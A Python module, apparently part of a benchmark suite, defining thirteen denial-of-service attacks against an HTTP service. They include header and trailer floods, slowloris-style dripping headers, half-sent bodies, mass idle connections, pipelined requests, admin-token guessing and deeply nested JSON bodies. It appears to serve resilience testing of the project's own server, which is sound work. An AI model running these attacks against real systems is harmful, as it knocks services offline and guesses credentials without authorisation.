"""The attacks: each takes the service's address and the time at which to stop.

Run as `python -m benchmarks.attacks.kinds NAME HOST PORT SECONDS`, in a process of its own.
"""

import contextlib
import socket
import sys
import threading
import time
from collections.abc import Callable, Mapping

from benchmarks.attacks.confinement import allow_many_files
from benchmarks.attacks.connections import Target, hammer, heaviest_body, hold, open_many, post

Attack = Callable[[Target, float], None]

GET = b"GET /variants HTTP/1.1\r\nHost: attacked\r\n\r\n"


def header_fields(target: Target, until: float) -> None:
    """One request after the other with 1.1 million header fields, 5.5 MB."""
    hammer(target, b"GET / HTTP/1.1\r\nHost: a\r\n" + b"a:b\r\n" * 1_100_000, until=until)


def endless_field(target: Target, until: float) -> None:
    """One request after the other with a header field of 5 MB that never ends."""
    hammer(target, b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 5_000_000, until=until)


def trailers(target: Target, until: float) -> None:
    """Chunked bodies that end with a million trailer fields."""
    head = b"POST /classify HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    hammer(target, head + b"2\r\n{}\r\n0\r\n" + b"a:b\r\n" * 1_000_000, until=until)


def pipeline(target: Target, until: float) -> None:
    """60,000 requests for /variants ahead on a connection, without reading a response."""
    hammer(target, GET * 60_000, until=until, wait_s=0.5)


def half_sent_bodies(target: Target, until: float) -> None:
    """200 bodies of 1 MiB, each one byte short."""
    payload = post("/classify", b"x" * (1024 * 1024 - 1), length=1024 * 1024)
    hold(_send_to_many(target, payload, 200, until), until=until)


def silent_connections(target: Target, until: float) -> None:
    """10,000 connections without a word."""
    hold(list(open_many(target, 10_000, until=until)), until=until)


def dripping_headers(target: Target, until: float) -> None:
    """1,000 connections, each with a byte of a header every now and then."""
    clients = _send_to_many(target, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", 1000, until)
    while time.monotonic() < until:
        for client in clients:
            with contextlib.suppress(OSError):
                client.send(b"a")
        time.sleep(0.5)


def heaviest_bodies(target: Target, until: float) -> None:
    """80 callers with the heaviest legal body, every other one gone as soon as it is sent."""
    payload = post("/classify", heaviest_body())

    def call(*, stays: bool) -> None:
        while time.monotonic() < until:
            hammer(target, payload, until=time.monotonic() + 0.1, wait_s=30.0 if stays else 0.0)

    _in_threads([lambda stays=i % 2 == 0: call(stays=stays) for i in range(80)])


def unread_responses(target: Target, until: float) -> None:
    """400 connections that ask for the longest answers and read none."""
    payload = b"GET /docs.json HTTP/1.1\r\nHost: a\r\n\r\n" * 16
    clients = _send_to_many(target, payload, 400, until, receive_buffer=4096)
    hold(clients, until=until)


def scrapes(target: Target, until: float) -> None:
    """64 callers of /metrics, /variants and /docs.json."""
    paths = ("/metrics", "/variants", "/docs.json")
    requests = [f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode() for path in paths]
    _in_threads(
        [lambda r=requests[i % 3]: hammer(target, r, until=until, wait_s=5) for i in range(64)]
    )


def token_guesses(target: Target, until: float) -> None:
    """50 callers that guess the admin token."""
    payload = post("/variants/fp32/unload", b"", "Authorization: Bearer correct-horse-battery")
    _in_threads([lambda: hammer(target, payload, until=until, wait_s=5) for _ in range(50)])


def unknown_routes(target: Target, until: float) -> None:
    """8 callers of paths that do not exist, each another."""

    def call(caller: int) -> None:
        i = 0
        while time.monotonic() < until:
            i += 1
            path = f"GET /{caller}/{i} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
            hammer(target, path, until=time.monotonic() + 1e-4, wait_s=5)

    _in_threads([lambda caller=i: call(caller) for i in range(8)])


def deep_json(target: Target, until: float) -> None:
    """8 callers with a megabyte of brackets, or a number of a million digits."""
    bodies = (b"[" * 1_000_000, b'{"text":' + b"1" * 1_000_000 + b"}", b'{"a":' * 150_000)
    payloads = [post("/classify", body) for body in bodies]
    _in_threads(
        [lambda p=payloads[i % 3]: hammer(target, p, until=until, wait_s=5) for i in range(8)]
    )


ATTACKS: Mapping[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        header_fields,
        endless_field,
        trailers,
        pipeline,
        half_sent_bodies,
        silent_connections,
        dripping_headers,
        heaviest_bodies,
        unread_responses,
        scrapes,
        token_guesses,
        unknown_routes,
        deep_json,
    )
}


def _send_to_many(
    target: Target, payload: bytes, count: int, until: float, *, receive_buffer: int | None = None
) -> list[socket.socket]:
    """Connections that have taken as much of a payload as they take at once."""
    clients = []
    for client in open_many(target, count, until=until):
        if receive_buffer is not None:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        client.settimeout(0.02)
        with contextlib.suppress(OSError):
            client.sendall(payload)
        clients.append(client)
    return clients


def _in_threads(actions: list[Callable[[], object]]) -> None:
    threads = [threading.Thread(target=action, daemon=True) for action in actions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def main(name: str, host: str, port: str, seconds: str) -> None:
    """Attack for some seconds."""
    allow_many_files()
    ATTACKS[name](Target(host, int(port)), time.monotonic() + float(seconds))


if __name__ == "__main__":
    main(*sys.argv[1:])
